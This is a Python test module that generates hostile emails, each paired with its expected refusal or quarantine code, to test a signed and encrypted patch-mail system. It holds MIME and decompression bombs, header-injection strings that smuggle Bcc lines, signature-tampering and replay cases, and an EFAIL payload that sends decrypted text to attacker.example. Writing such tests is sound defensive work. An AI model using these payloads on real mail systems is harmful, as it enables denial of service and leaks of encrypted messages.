"""A corpus of hostile mails of our own, the same each time: what each is, how it is told, and how it must end.

It is made in code, for the bench and the tests: `corpus(member, room)` of one member with a key, and the room's
certificate. None of it may be acted on.
"""

from __future__ import annotations

import base64
import zlib
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import datetime, timedelta
from email.utils import format_datetime

import pysequoia

from . import letters

DIFF = (
    "what and why\n\n---\ndiff --git a/common/table.c b/common/table.c\n--- a/common/table.c\n"
    "+++ b/common/table.c\n@@ -1 +1 @@\n-a\n+b\n"
)


@dataclass(frozen=True, slots=True)
class Writer:
    """Somebody with an address, a secret key, and the advisory and branch that they may write of. `mark` stands in the
    ids of their mails.
    """

    address: str
    secret: bytes
    number: int
    branch: str
    mark: str = ""


@dataclass(frozen=True, slots=True)
class Hostile:
    """A mail, and the code that it must end with; `state` refused or quarantined."""

    name: str
    raw: bytes
    state: str
    code: str


def plain(writer: Writer, at: datetime, *, name: str, subject: str = "", text: str = DIFF, head: str = "") -> bytes:
    """An unsigned mail of theirs."""
    told = subject or f"[PATCH XSA-{writer.number} {writer.branch}] table: check"
    lines = [
        f"From: Example Engineer <{writer.address}>",
        "To: room@backports.example",
        f"Subject: {told}",
        f"Date: {format_datetime(at)}",
        f"Message-ID: <{name}{writer.mark}@hostile.example>",
        *([head] if head else []),
        "Content-Type: text/plain; charset=utf-8",
        "Content-Transfer-Encoding: 8bit",
    ]
    return "\n".join(lines).encode() + b"\n\n" + text.encode()


def corpus(writer: Writer, room: bytes, at: datetime) -> Iterator[Hostile]:
    """All of them, sent at this time."""
    yield from _structures(writer, at)
    yield from _headers(writer, at)
    yield from _signatures(writer, at)
    yield from _moved(writer, room, at)
    yield from _sealed(writer, room, at)


def _structures(writer: Writer, at: datetime) -> Iterator[Hostile]:
    head = plain(writer, at, name="bomb").split(b"Content-Type")[0]
    deep = b"".join(b"Content-Type: multipart/mixed; boundary=b%d\n\n--b%d\n" % (n, n) for n in range(2_000))
    many = b"Content-Type: multipart/mixed; boundary=b\n\n" + b"--b\nContent-Type: text/plain\n\nx\n" * 50_000
    mails = b"".join(b"Content-Type: message/rfc822\n\n" for _ in range(3_000))
    yield Hostile("mime-bomb-deep", head + deep + b"x", "refused", "too-many-parts")
    yield Hostile("mime-bomb-wide", head + many, "refused", "too-many-parts")
    yield Hostile("mails-in-mails", head + mails + b"x", "refused", "too-many-parts")
    yield Hostile("long-header", b"X-Long: " + b"a" * 300_000 + b"\n" + head + b"\n\nx", "refused", "long-headers")
    headers = b"".join(b"X-%d: a\n" % n for n in range(10_000))
    yield Hostile("many-headers", headers + head + b"\n\nx", "refused", "long-headers")
    nested = b"".join(b"Content-Type: multipart/mixed; boundary=b%d\n\n--b%d\n" % (n, n) for n in range(20))
    ends = b"".join(b"\n--b%d--\n" % n for n in reversed(range(20)))
    closed = head + nested + b"Content-Type: text/plain\n\nx" + ends
    yield Hostile("nested-and-closed", closed, "refused", "nested-too-deep")
    yield Hostile("empty", b"\n\n", "refused", "empty-mail")
    packed = base64.encodebytes(zlib.compress(b"\0" * 5_000_000)).decode()
    yield Hostile("packed", plain(writer, at, name="packed", text=packed), "quarantined", "unsigned")
    wrong = plain(writer, at, name="charset").replace(b"charset=utf-8", b"charset=no-such-thing")
    yield Hostile("wrong-charset", wrong, "quarantined", "unsigned")
    yield Hostile("noughts", plain(writer, at, name="noughts", text="\0" * 2_000 + DIFF), "quarantined", "unsigned")


def _headers(writer: Writer, at: datetime) -> Iterator[Hostile]:
    twice = plain(writer, at, name="from-twice", head="From: Somebody Else <else@other.example>")
    yield Hostile("from-twice", twice, "refused", "doubled-header")
    injected = plain(writer, at, name="injected", subject="=?utf-8?q?x=0ABcc=3A_all=40everybody.example?=")
    yield Hostile("header-injection", injected, "quarantined", "unsigned")
    yield from _odd_headers(writer, at)
    yield Hostile("from-spoof", plain(writer, at, name="spoof"), "quarantined", "unsigned")
    for code, told in (
        ("bounce", "Return-Path: <>"),
        ("autoresponder", "Auto-Submitted: auto-replied"),
        ("loop", "X-Loop: room@backports.example"),
        ("spam", "X-Spam-Flag: YES"),
    ):
        yield Hostile(code, plain(writer, at, name=code, head=told), "refused", code)
    stranger = Writer("stranger@nowhere.example", writer.secret, 0, "")
    nothing = plain(stranger, at, name="stranger", subject="Buy now", text="Cheap.\n")
    yield Hostile("nothing-for-us", nothing, "refused", "nothing-for-us")


def _odd_headers(writer: Writer, at: datetime) -> Iterator[Hostile]:
    """Names, subjects and file names that no program should write, in mails that are otherwise patches."""
    name = b"From: Example Engineer <"
    for code, odd in (
        ("injected-name", b"From: =?utf-8?q?x=0D=0ABcc=3A_all=40everybody.example=0D=0A?= <"),
        ("noughts-in-name", b"From: Ex\0ample =?utf-8?q?=00?= <"),
        ("name-in-no-charset", b"From: =?no-such-thing?q?x=ff?= =?utf-8?b?!!!!?= \xff\xfe <"),
    ):
        yield Hostile(code, plain(writer, at, name=code).replace(name, odd), "quarantined", "unsigned")
    noughts = plain(writer, at, name="noughts-in-subject").replace(b"table: check", b"ta\0ble =?utf-8?q?=00=ED=A0=80?=")
    yield Hostile("noughts-in-subject", noughts, "quarantined", "unsigned")
    told = "Content-Disposition: attachment; filename*0=\"a\0\r\n Bcc: all@everybody.example\"; filename*=x'y'%00%0A"
    yield Hostile("file-name", plain(writer, at, name="file-name", head=told), "quarantined", "unsigned")
    subject = "=?utf-8?q?hello=0D=0ABcc=3A_all=40everybody.example=00?="
    signed = letters.signed(plain(writer, at, name="answered", subject=subject, text="x\n"), writer.secret)
    # This one is answered, with its subject.
    yield Hostile("signed-injection", signed, "refused", "nothing-to-do")


def _signatures(writer: Writer, at: datetime) -> Iterator[Hostile]:
    raw = plain(writer, at, name="signed")
    good = letters.signed(raw, writer.secret)
    changed = good.replace(b"+b\r\n", b"+c\r\n")
    yield Hostile("changed-after-signing", changed, "refused", "bad-signature")
    other = str(pysequoia.Tsk.generate(user_id=f"Example Engineer <{writer.address}>")).encode()
    yield Hostile("other-key", letters.signed(plain(writer, at, name="other"), other), "quarantined", "unknown-key")
    bare = letters.signed(plain(writer, at, name="bare"), writer.secret, protect=False)
    yield Hostile("unprotected-headers", bare, "quarantined", "unprotected-headers")
    cut = letters.signed(plain(writer, at, name="cut"), writer.secret).rpartition(b"--signed--")[0]
    yield Hostile("signature-cut-off", cut, "refused", "mixed-signature")
    third = letters.signed(plain(writer, at, name="third"), writer.secret)
    appended = third.replace(b"--signed--", b"--signed\r\nContent-Type: text/plain\r\n\r\n" + b"more\r\n--signed--")
    yield Hostile("part-after-signature", appended, "refused", "mixed-signature")


def _moved(writer: Writer, room: bytes, at: datetime) -> Iterator[Hostile]:
    """Good signatures that came in other mails than they were made for."""
    good = letters.signed(plain(writer, at, name="moved"), writer.secret)
    head, sep, body = good.partition(b"\r\n\r\n")
    subject = f"XSA-{writer.number} ".encode()
    elsewhere = head.replace(subject, b"XSA-1 ", 1) + sep + body
    yield Hostile("moved-to-another-advisory", elsewhere, "refused", "moved")
    thread = head + b"\r\nIn-Reply-To: <another@thread.example>" + sep + body
    yield Hostile("moved-to-another-thread", thread, "refused", "moved")
    new = head.replace(b"<moved", b"<anew") + sep + body
    yield Hostile("sent-again-under-a-new-id", new, "refused", "replayed")
    dated = head.replace(format_datetime(at).encode(), format_datetime(at - timedelta(days=3)).encode()) + sep + body
    yield Hostile("another-date", dated, "refused", "other-date")
    old = plain(writer, at - timedelta(days=40), name="old")
    yield Hostile("signed-long-ago", letters.signed(old, writer.secret), "refused", "other-date")
    sealed = letters.encrypted(plain(writer, at, name="sealed"), writer.secret, room, subject="[PATCH XSA-1 4.1] x")
    yield Hostile("encrypted-and-moved", sealed, "refused", "moved")


def _sealed(writer: Writer, room: bytes, at: datetime) -> Iterator[Hostile]:
    """Encrypted parts in odd places."""
    raw = plain(writer, at, name="twice")
    cert = pysequoia.Cert.from_bytes(room)
    inside = letters.encrypted(raw, writer.secret, room)
    again = letters.encrypted(inside.replace(b"\r\n", b"\n"), writer.secret, room)
    yield Hostile("encrypted-twice", again, "refused", "nested-encryption")
    yield _efail(writer, cert, at)
    whole = letters.encrypted(plain(writer, at, name="damaged"), writer.secret, room)
    # Without the armour's own sum, which would tell of it before the encryption does.
    lines = [line for line in whole.split(b"\r\n") if not (line.startswith(b"=") and len(line) == 5)]
    middle = next(n for n, line in enumerate(lines) if line.startswith(b"-----BEGIN PGP MESSAGE")) + 8
    lines[middle] = lines[middle][:20] + lines[middle][20:24][::-1].swapcase() + lines[middle][24:]
    yield Hostile("damaged", b"\r\n".join(lines), "refused", "damaged")
    other = pysequoia.Tsk.generate(user_id="Another <another@other.example>")
    elsewhere = letters.wrapped_as_encrypted(
        plain(writer, at, name="elsewhere"), bytes(pysequoia.encrypt(b"x", [other.extract_certificate()]))
    )
    # To another key, and in a form that is newer than what GnuPG reads.
    yield Hostile("for-another-key", elsewhere, "refused", "no-message")
    anonymous = letters.encrypted(plain(writer, at, name="anonymous"), None, room)
    yield Hostile("encrypted-unsigned", anonymous, "quarantined", "unsigned")


def _efail(writer: Writer, cert: pysequoia.Cert, at: datetime) -> Hostile:
    armoured = bytes(pysequoia.encrypt(b"a secret of somebody's", [cert]))
    # EFAIL: the encrypted part between two that would send what it holds elsewhere.
    parts = (
        b'--e\nContent-Type: text/html\n\n<img src="http://attacker.example/\n'
        b"--e\nContent-Type: text/plain\n\n" + armoured + b'\n--e\nContent-Type: text/html\n\n">\n--e--\n'
    )
    head = plain(writer, at, name="efail").split(b"Content-Type")[0]
    return Hostile(
        "efail", head + b"Content-Type: multipart/mixed; boundary=e\n\n" + parts, "refused", "mixed-encryption"
    )
